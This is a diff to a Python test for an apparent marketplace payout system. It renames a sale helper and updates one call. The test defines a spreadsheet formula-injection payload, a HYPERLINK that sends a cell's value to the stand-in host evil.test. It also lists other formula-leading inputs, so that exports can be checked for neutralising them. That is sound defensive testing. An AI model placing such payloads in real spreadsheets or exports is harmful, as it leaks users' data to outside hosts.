@@ -7,8 +7,8 @@ import io
 import re
 
 from tests.factories import login
-from tests.market import API, contribute, create_product
-from tests.revenue.settlement_world import sell, statement
+from tests.market import API, contribute, create_product, sold
+from tests.revenue.settlement_world import statement
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
 
@@ -26,7 +26,7 @@ def test_a_product_name_and_a_payout_reference_that_start_a_formula_come_out_of_
     product = create_product(client, group, m.lead.headers, name=FORMULA, kind="produce", unit="kg", unit_price=5000)
     variant = product["variants"][0]["id"]
     contribute(client, group, m.lead.headers, variant, m.siti, "4")
-    sell(client, m.buyer, m.lead, (variant, "2"))  # Siti is owed Rp10.000
+    sold(client, m.buyer, m.lead, (variant, "2"))  # Siti is owed Rp10.000
     for reference in (FORMULA, "@SUM(1+1)", "-1+2", "+62 812"):
         response = client.post(
             f"{API}/groups/{group.id}/payouts",
